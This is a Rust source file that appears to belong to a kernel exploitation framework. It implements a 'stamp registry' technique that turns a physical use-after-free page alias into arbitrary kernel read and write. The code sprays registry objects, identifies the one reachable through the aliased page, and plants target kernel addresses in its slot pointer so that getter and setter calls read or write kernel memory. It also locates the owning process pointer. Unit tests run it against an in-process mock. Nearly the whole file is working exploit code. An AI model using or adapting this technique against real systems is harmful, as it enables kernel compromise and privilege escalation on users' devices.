//! The stamp registry technique.

use std::cell::RefCell;
use std::ops::Range;
use std::rc::Rc;

use log::warn;

use kalias_core::caps::StampLayout;
use kalias_core::technique::{FoundObject, Technique, TechniqueError};
use kalias_core::util;

use crate::port::{StampHandle, StampPort};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum StampRole {
    Owner,
    Delegate,
}

#[derive(Default)]
struct StampState {
    handles: Vec<Option<StampHandle>>,
    found: Option<FoundObject>,
}

/// Dual-capable krkw technique over stamp registries.
///
/// The kernel keeps the pointer to a registry's slot array in the registry
/// header. Once a header is visible through a puaf alias, every access
/// follows the same sequence: save the slot pointer, overwrite it with the
/// target kernel address, trigger the indexed stamp accessor so the kernel
/// dereferences the planted pointer, then restore the saved value. Reads
/// use the stamp getter, writes the setter, eight bytes per round trip.
///
/// A [`StampTechnique`] is either the owning instance, which allocates and
/// releases registries, or a delegate created by [`StampTechnique::twin_pair`]
/// that shares the owner's handles and confirmed object so both session
/// channels can run on a single registry.
pub struct StampTechnique {
    port: Rc<RefCell<dyn StampPort>>,
    state: Rc<RefCell<StampState>>,
    layout: StampLayout,
    role: StampRole,
}

impl StampTechnique {
    /// Creates a standalone owning instance for a single channel.
    pub fn solo(port: Rc<RefCell<dyn StampPort>>, layout: StampLayout) -> Self {
        Self {
            port,
            state: Rc::new(RefCell::new(StampState::default())),
            layout,
            role: StampRole::Owner,
        }
    }

    /// Creates an owner/delegate pair over shared state.
    ///
    /// The owner goes on the read channel and does all allocation and
    /// cleanup; the delegate goes on the write channel, where it only
    /// re-recognizes the owner's confirmed object.
    pub fn twin_pair(
        port: Rc<RefCell<dyn StampPort>>,
        layout: StampLayout,
    ) -> (Self, Self) {
        let owner = Self::solo(port, layout);
        let delegate = Self {
            port: Rc::clone(&owner.port),
            state: Rc::clone(&owner.state),
            layout: owner.layout.clone(),
            role: StampRole::Delegate,
        };
        (owner, delegate)
    }

    fn handle_of(&self, found: &FoundObject) -> Result<StampHandle, TechniqueError> {
        self.state
            .borrow()
            .handles
            .get(found.id as usize)
            .copied()
            .flatten()
            .ok_or(TechniqueError::UnknownId(found.id))
    }

    fn slot_ptr_of(&self, found: &FoundObject) -> *mut u64 {
        (found.uaddr + self.layout.slot_ptr_offset) as *mut u64
    }
}

impl Technique for StampTechnique {
    fn name(&self) -> &'static str {
        match self.role {
            StampRole::Owner => "stamp",
            StampRole::Delegate => "stamp-twin",
        }
    }

    fn init(&mut self) -> Result<(), TechniqueError> {
        if self.role == StampRole::Delegate {
            return Ok(());
        }
        // Round-trip one probe registry so a dead port surfaces here, not
        // thousands of allocations into the spray.
        let mut port = self.port.borrow_mut();
        let probe = port.create()?;
        port.destroy(probe)?;
        Ok(())
    }

    fn object_size(&self) -> usize {
        self.layout.object_size
    }

    fn maximum_id(&self) -> u64 {
        self.layout.maximum_id
    }

    fn allocate(&mut self, id: u64) -> Result<(), TechniqueError> {
        if self.role == StampRole::Delegate {
            return Ok(());
        }
        let handle = self.port.borrow_mut().create()?;
        let mut state = self.state.borrow_mut();
        debug_assert_eq!(state.handles.len() as u64, id, "ids must arrive consecutively");
        state.handles.push(Some(handle));
        Ok(())
    }

    fn search(&mut self, candidates: Range<u64>, uaddr: usize) -> Option<u64> {
        if self.role == StampRole::Delegate {
            // The owning instance allocated the object, so its id may lie
            // outside this instance's own candidate window.
            let found = self.state.borrow().found;
            return match found {
                Some(found) if found.uaddr == uaddr => Some(found.id),
                _ => None,
            };
        }
        let magic = unsafe { (uaddr as *const u64).read_volatile() };
        if magic != self.layout.magic {
            return None;
        }
        let instance =
            unsafe { ((uaddr + self.layout.instance_offset) as *const u32).read_volatile() };
        let state = self.state.borrow();
        for id in candidates {
            if let Some(Some(handle)) = state.handles.get(id as usize) {
                if handle.registry_id == instance {
                    drop(state);
                    self.state.borrow_mut().found = Some(FoundObject { id, uaddr });
                    return Some(id);
                }
            }
        }
        None
    }

    fn kread(
        &mut self,
        found: &FoundObject,
        kaddr: u64,
        data: &mut [u8],
    ) -> Result<(), TechniqueError> {
        if data.len() % 8 != 0 {
            return Err(TechniqueError::UnalignedSize(data.len(), 8));
        }
        let handle = self.handle_of(found)?;
        let slot_ptr = self.slot_ptr_of(found);
        let saved = unsafe { slot_ptr.read_volatile() };
        let mut port = self.port.borrow_mut();
        let result: Result<(), TechniqueError> = (|| {
            for (index, word) in data.chunks_exact_mut(8).enumerate() {
                unsafe { slot_ptr.write_volatile(kaddr + (index as u64) * 8) };
                let value = port.stamp(handle, 0)?;
                word.copy_from_slice(&value.to_le_bytes());
            }
            Ok(())
        })();
        unsafe { slot_ptr.write_volatile(saved) };
        result
    }

    fn kwrite(
        &mut self,
        found: &FoundObject,
        data: &[u8],
        kaddr: u64,
    ) -> Result<(), TechniqueError> {
        if data.len() % 8 != 0 {
            return Err(TechniqueError::UnalignedSize(data.len(), 8));
        }
        let handle = self.handle_of(found)?;
        let slot_ptr = self.slot_ptr_of(found);
        let saved = unsafe { slot_ptr.read_volatile() };
        let mut port = self.port.borrow_mut();
        let result: Result<(), TechniqueError> = (|| {
            for (index, word) in data.chunks_exact(8).enumerate() {
                let mut word_bytes = [0u8; 8];
                word_bytes.copy_from_slice(word);
                unsafe { slot_ptr.write_volatile(kaddr + (index as u64) * 8) };
                port.set_stamp(handle, 0, u64::from_le_bytes(word_bytes))?;
            }
            Ok(())
        })();
        unsafe { slot_ptr.write_volatile(saved) };
        result
    }

    fn find_proc(&mut self, found: &FoundObject) -> Option<u64> {
        let proc = unsafe {
            ((found.uaddr + self.layout.owner_proc_offset) as *const u64).read_volatile()
        };
        (proc != 0).then_some(proc)
    }

    fn deallocate(&mut self, id: u64) {
        if self.role == StampRole::Delegate {
            return;
        }
        let handle = self
            .state
            .borrow_mut()
            .handles
            .get_mut(id as usize)
            .and_then(Option::take);
        if let Some(handle) = handle {
            if let Err(err) = self.port.borrow_mut().destroy(handle) {
                warn!("stamp: destroying registry {} for id {} failed: {}", handle.registry_id, id, err);
            }
        }
    }

    fn free(&mut self) {
        if self.role == StampRole::Delegate {
            return;
        }
        let mut state = self.state.borrow_mut();
        let mut port = self.port.borrow_mut();
        for slot in state.handles.iter_mut() {
            if let Some(handle) = slot.take() {
                if let Err(err) = port.destroy(handle) {
                    warn!("stamp: destroying registry {} failed: {}", handle.registry_id, err);
                }
            }
        }
        util::wipe(&mut state.handles);
        state.handles.clear();
        state.found = None;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;
    use std::io;

    const FAKE_PROC: u64 = 0xffff_fff0_1c0f_fee0;

    fn layout() -> StampLayout {
        StampLayout {
            object_size: 512,
            magic: u64::from_le_bytes(*b"STMPREGY"),
            instance_offset: 8,
            slot_ptr_offset: 16,
            owner_proc_offset: 24,
            slot_count: 4,
            maximum_id: 64,
        }
    }

    /// In-process stand-in for the registry syscalls. Headers live in heap
    /// buffers, except for one scripted creation whose header is written
    /// into a caller-provided address, standing in for a reclaimed puaf
    /// page. The stamp accessors re-read the slot pointer from the header
    /// on every call, exactly like the kernel they mimic.
    struct MockPort {
        layout: StampLayout,
        plant: Option<(u64, usize)>,
        created: u32,
        destroyed: u32,
        live: HashMap<u32, usize>,
        headers: Vec<Box<[u8]>>,
        slot_arrays: Vec<Box<[u64]>>,
    }

    impl MockPort {
        fn new(layout: StampLayout, plant: Option<(u64, usize)>) -> Self {
            Self {
                layout,
                plant,
                created: 0,
                destroyed: 0,
                live: HashMap::new(),
                headers: Vec::new(),
                slot_arrays: Vec::new(),
            }
        }

        fn header_addr(&self, handle: StampHandle) -> io::Result<usize> {
            self.live
                .get(&handle.port)
                .copied()
                .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such registry"))
        }
    }

    impl StampPort for MockPort {
        fn create(&mut self) -> io::Result<StampHandle> {
            let index = u64::from(self.created);
            self.created += 1;
            let port = self.created;
            let registry_id = 0x5000 + port;
            let slots = vec![0u64; self.layout.slot_count as usize].into_boxed_slice();
            let slot_ptr = slots.as_ptr() as u64;
            self.slot_arrays.push(slots);
            let header_addr = match self.plant {
                Some((at, uaddr)) if at == index => uaddr,
                _ => {
                    let header = vec![0u8; self.layout.object_size].into_boxed_slice();
                    let addr = header.as_ptr() as usize;
                    self.headers.push(header);
                    addr
                }
            };
            unsafe {
                (header_addr as *mut u64).write_volatile(self.layout.magic);
                ((header_addr + self.layout.instance_offset) as *mut u32)
                    .write_volatile(registry_id);
                ((header_addr + self.layout.slot_ptr_offset) as *mut u64).write_volatile(slot_ptr);
                ((header_addr + self.layout.owner_proc_offset) as *mut u64)
                    .write_volatile(FAKE_PROC);
            }
            self.live.insert(port, header_addr);
            Ok(StampHandle { port, registry_id })
        }

        fn destroy(&mut self, handle: StampHandle) -> io::Result<()> {
            self.live
                .remove(&handle.port)
                .ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, "no such registry"))?;
            self.destroyed += 1;
            Ok(())
        }

        fn stamp(&mut self, handle: StampHandle, slot: u32) -> io::Result<u64> {
            let header = self.header_addr(handle)?;
            let slot_ptr =
                unsafe { ((header + self.layout.slot_ptr_offset) as *const u64).read_volatile() };
            Ok(unsafe {
                ((slot_ptr as usize + slot as usize * 8) as *const u64).read_volatile()
            })
        }

        fn set_stamp(&mut self, handle: StampHandle, slot: u32, value: u64) -> io::Result<()> {
            let header = self.header_addr(handle)?;
            let slot_ptr =
                unsafe { ((header + self.layout.slot_ptr_offset) as *const u64).read_volatile() };
            unsafe {
                ((slot_ptr as usize + slot as usize * 8) as *mut u64).write_volatile(value);
            }
            Ok(())
        }
    }

    fn alias_page() -> (Vec<u8>, usize) {
        let backing = vec![0u8; 2 * util::PAGE_SIZE];
        let base = (backing.as_ptr() as usize + util::PAGE_MASK) & !util::PAGE_MASK;
        (backing, base)
    }

    fn sprayed_owner(
        plant_index: u64,
        page: usize,
    ) -> (Rc<RefCell<MockPort>>, StampTechnique, FoundObject) {
        let port = Rc::new(RefCell::new(MockPort::new(
            layout(),
            Some((plant_index, page)),
        )));
        let mut owner = StampTechnique::solo(port.clone(), layout());
        for id in 0..8 {
            owner.allocate(id).unwrap();
        }
        let id = owner.search(0..8, page).expect("planted registry must be found");
        assert_eq!(id, plant_index);
        (port, owner, FoundObject { id, uaddr: page })
    }

    #[test]
    fn recognizes_only_its_own_registry_header() {
        let (_backing, page) = alias_page();
        let port = Rc::new(RefCell::new(MockPort::new(layout(), Some((5, page)))));
        let mut owner = StampTechnique::solo(port, layout());
        for id in 0..8 {
            owner.allocate(id).unwrap();
        }

        assert_eq!(owner.search(0..8, page), Some(5));
        // A magic mismatch one word into the page must not match.
        assert_eq!(owner.search(0..8, page + 8), None);
        // Ids outside the candidate window stay invisible.
        assert_eq!(owner.search(0..5, page), None);
    }

    #[test]
    fn kread_plants_the_target_and_restores_the_slot_pointer() {
        let (_backing, page) = alias_page();
        let (_port, mut owner, found) = sprayed_owner(5, page);
        let saved = unsafe { ((page + 16) as *const u64).read_volatile() };
        let kernel = [0x1111u64, 0x2222, 0x3333];

        let mut data = [0u8; 24];
        owner.kread(&found, kernel.as_ptr() as u64, &mut data).unwrap();

        for (index, chunk) in data.chunks_exact(8).enumerate() {
            let mut word = [0u8; 8];
            word.copy_from_slice(chunk);
            assert_eq!(u64::from_le_bytes(word), kernel[index]);
        }
        let restored = unsafe { ((page + 16) as *const u64).read_volatile() };
        assert_eq!(restored, saved, "slot pointer must be restored after the read");
    }

    #[test]
    fn kwrite_reaches_the_target_and_restores_the_slot_pointer() {
        let (_backing, page) = alias_page();
        let (_port, mut owner, found) = sprayed_owner(5, page);
        let saved = unsafe { ((page + 16) as *const u64).read_volatile() };
        let mut kernel = [0u64; 2];

        let mut data = [0u8; 16];
        data[..8].copy_from_slice(&0xaaaa_bbbb_cccc_ddddu64.to_le_bytes());
        data[8..].copy_from_slice(&0x1234_5678_9abc_def0u64.to_le_bytes());
        owner.kwrite(&found, &data, kernel.as_mut_ptr() as u64).unwrap();

        assert_eq!(kernel, [0xaaaa_bbbb_cccc_dddd, 0x1234_5678_9abc_def0]);
        let restored = unsafe { ((page + 16) as *const u64).read_volatile() };
        assert_eq!(restored, saved, "slot pointer must be restored after the write");
    }

    #[test]
    fn rejects_unaligned_access_sizes() {
        let (_backing, page) = alias_page();
        let (_port, mut owner, found) = sprayed_owner(5, page);
        let mut data = [0u8; 7];
        assert!(matches!(
            owner.kread(&found, 0x1000, &mut data),
            Err(TechniqueError::UnalignedSize(7, 8))
        ));
    }

    #[test]
    fn resolves_the_owning_process_from_the_header() {
        let (_backing, page) = alias_page();
        let (_port, mut owner, found) = sprayed_owner(5, page);
        assert_eq!(owner.find_proc(&found), Some(FAKE_PROC));
    }

    #[test]
    fn delegate_shares_the_owners_discovery_and_handles() {
        let (_backing, page) = alias_page();
        // The owner's init probe is creation 0, so id 3 is creation 4.
        let port = Rc::new(RefCell::new(MockPort::new(layout(), Some((4, page)))));
        let dyn_port: Rc<RefCell<dyn StampPort>> = port.clone();
        let (mut owner, mut delegate) = StampTechnique::twin_pair(dyn_port, layout());

        delegate.init().unwrap();
        assert_eq!(port.borrow().created, 0, "delegate init must not touch the port");
        owner.init().unwrap();
        for id in 0..8 {
            owner.allocate(id).unwrap();
            delegate.allocate(id).unwrap();
        }
        assert_eq!(port.borrow().created, 9, "only the owner and its init probe allocate");

        assert_eq!(delegate.search(0..8, page), None, "nothing to re-recognize yet");
        assert_eq!(owner.search(0..8, page), Some(3));
        assert_eq!(delegate.search(0..1, page), Some(3));
        assert_eq!(delegate.search(0..8, page + 64), None);

        let found = FoundObject { id: 3, uaddr: page };
        let mut kernel = [0u64; 1];
        delegate
            .kwrite(&found, &0xfeed_beef_u64.to_le_bytes(), kernel.as_mut_ptr() as u64)
            .unwrap();
        assert_eq!(kernel[0], 0xfeed_beef);

        delegate.deallocate(3);
        delegate.free();
        assert_eq!(port.borrow().destroyed, 1, "delegate cleanup must be a no-op");
    }

    #[test]
    fn cleanup_destroys_each_registry_exactly_once() {
        let (_backing, page) = alias_page();
        let (port, mut owner, _found) = sprayed_owner(5, page);
        let before = port.borrow().destroyed;

        owner.deallocate(2);
        owner.deallocate(2);
        assert_eq!(port.borrow().destroyed, before + 1);

        owner.free();
        assert_eq!(port.borrow().destroyed, before + 8);
        assert_eq!(port.borrow().live.len(), 0);

        owner.free();
        assert_eq!(port.borrow().destroyed, before + 8);
    }
}
